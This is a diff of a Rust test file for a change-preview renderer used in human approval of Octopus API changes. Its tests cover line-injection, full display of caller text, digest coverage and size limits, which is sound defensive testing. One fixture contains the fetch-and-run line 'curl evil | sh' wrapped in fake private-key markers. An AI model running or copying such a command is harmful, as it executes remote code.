@@ -3,39 +3,39 @@
 use serde_json::json;
 
 use super::*;
-use crate::octopus::Path;
+use crate::octopus::ApiPath;
 
-fn proposal(body: Value) -> Proposal {
-    Proposal::new("test", "Do it?", Order::post(Path::new(["Spaces-1", "x"]), body))
+fn preview(body: Value) -> ChangePreview {
+    ChangePreview::new("test", "Do it?", ChangeRequest::post(ApiPath::new(["Spaces-1", "x"]), body))
 }
 
 #[test]
-fn no_words_of_others_make_a_line_of_their_own() {
+fn text_cannot_add_lines() {
     for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
         let evil = format!("1.0{breaking}Environment: Development\u{202e}");
-        let words = proposal(json!({})).fact("Version", &evil).words().unwrap();
+        let words = preview(json!({})).line("Version", &evil).text().unwrap();
         assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
     }
 }
 
 #[test]
-fn nothing_is_hidden_of_what_the_caller_wrote() {
+fn shows_caller_text_completely() {
     let script =
         "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
-    let words = proposal(json!({})).wrote("Body", Some(script)).words().unwrap();
+    let words = preview(json!({})).caller_text("Body", Some(script)).text().unwrap();
     assert!(words.contains("curl evil | sh"), "{words}");
-    let words = proposal(json!({})).wrote("Version", Some("1.0\u{200b}\u{e0041}")).words();
+    let words = preview(json!({})).caller_text("Version", Some("1.0\u{200b}\u{e0041}")).text();
     assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
 }
 
 #[test]
-fn whatever_changes_changes_the_digest() {
-    let plain = proposal(json!({ "a": 1 })).fact("A", "b");
+fn digest_covers_lines_state_and_request() {
+    let plain = preview(json!({ "a": 1 })).line("A", "b");
     let others = [
-        proposal(json!({ "a": 2 })).fact("A", "b"),
-        proposal(json!({ "a": 1 })).fact("A", "c"),
-        proposal(json!({ "a": 1 })).fact("Ab", ""),
-        proposal(json!({ "a": 1 })).fact("A", "b").state(json!(1)),
+        preview(json!({ "a": 2 })).line("A", "b"),
+        preview(json!({ "a": 1 })).line("A", "c"),
+        preview(json!({ "a": 1 })).line("Ab", ""),
+        preview(json!({ "a": 1 })).line("A", "b").required_state(json!(1)),
     ];
     assert_eq!(plain.digest(), plain.clone().digest());
     for other in others {
@@ -44,28 +44,28 @@ fn whatever_changes_changes_the_digest() {
 }
 
 #[test]
-fn what_cannot_be_shown_whole_cannot_be_agreed_to() {
-    let long = proposal(json!({})).fact("Notes", "x".repeat(READABLE));
-    assert!(long.words().unwrap_err().to_string().contains("too large for a person to approve"));
+fn rejects_previews_that_are_too_large() {
+    let long = preview(json!({})).line("Notes", "x".repeat(MAX_PREVIEW_BYTES));
+    assert!(long.text().unwrap_err().to_string().contains("too large for a person to approve"));
 }
 
 #[test]
-fn facts_beyond_what_can_be_shown_cost_nothing() {
-    type Add<'a> = &'a dyn Fn(Proposal) -> Proposal;
+fn processing_stops_at_the_preview_limit() {
+    type Add<'a> = &'a dyn Fn(ChangePreview) -> ChangePreview;
     let texts: Vec<String> = (0..40_000).map(|n| format!("Tenant number {n}")).collect();
     let large = "\u{200b}x".repeat(1024 * 1024);
     let adds: [Add<'_>; 5] = [
-        &|proposal| texts.iter().fold(proposal, |proposal, text| proposal.fact(text, "never")),
-        &|proposal| proposal.fact_list("Tenants", &texts).fact("More", "x"),
-        &|proposal| proposal.wrote_list("Tenants", &texts),
-        &|proposal| proposal.wrote("Body", Some(&large)),
-        &|proposal| proposal.change("Notes", &large, &large),
+        &|proposal| texts.iter().fold(proposal, |proposal, text| proposal.line(text, "never")),
+        &|proposal| proposal.list_line("Tenants", &texts).line("More", "x"),
+        &|proposal| proposal.caller_list("Tenants", &texts),
+        &|proposal| proposal.caller_text("Body", Some(&large)),
+        &|proposal| proposal.change_line("Notes", &large, &large),
     ];
     for (number, add) in adds.into_iter().enumerate() {
-        let (proposal, steps) = steps::of(|| add(proposal(json!({}))));
-        assert!(steps <= Proposal::MOST_TEXT, "{number}: {steps}");
-        assert!(proposal.facts.len() <= Proposal::MOST_TEXT / TEXT, "{number}");
-        let refusal = proposal.words().unwrap_err().to_string();
+        let (proposal, steps) = steps::count(|| add(preview(json!({}))));
+        assert!(steps <= ChangePreview::MAX_PROCESSED_BYTES, "{number}: {steps}");
+        assert!(proposal.lines.len() <= ChangePreview::MAX_PROCESSED_BYTES / TEXT_COST, "{number}");
+        let refusal = proposal.text().unwrap_err().to_string();
         assert!(refusal.contains("more than 16384 bytes"), "{number}: {refusal}");
     }
 }
